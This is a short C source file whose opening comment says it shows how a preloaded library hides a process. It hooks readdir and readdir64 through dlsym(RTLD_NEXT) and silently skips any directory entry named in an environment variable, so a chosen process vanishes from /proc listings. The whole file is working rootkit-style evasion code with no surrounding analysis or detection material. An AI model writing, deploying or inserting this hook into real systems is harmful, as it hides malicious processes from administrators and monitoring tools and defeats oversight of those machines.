/* What a preloaded library does to hide a process: it leaves one number out of every folder that is listed. */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdlib.h>
#include <string.h>

#define HIDE(type, name)                                                        \
  struct type *name(DIR *folder) {                                              \
    static struct type *(*original)(DIR *);                                     \
    if (!original) *(void **)&original = dlsym(RTLD_NEXT, #name);               \
    struct type *entry = original(folder);                                      \
    const char *hidden = getenv("STAND_IN_HIDDEN");                             \
    while (entry && hidden && !strcmp(entry->d_name, hidden)) entry = original(folder); \
    return entry;                                                               \
  }

HIDE(dirent, readdir)
HIDE(dirent64, readdir64)
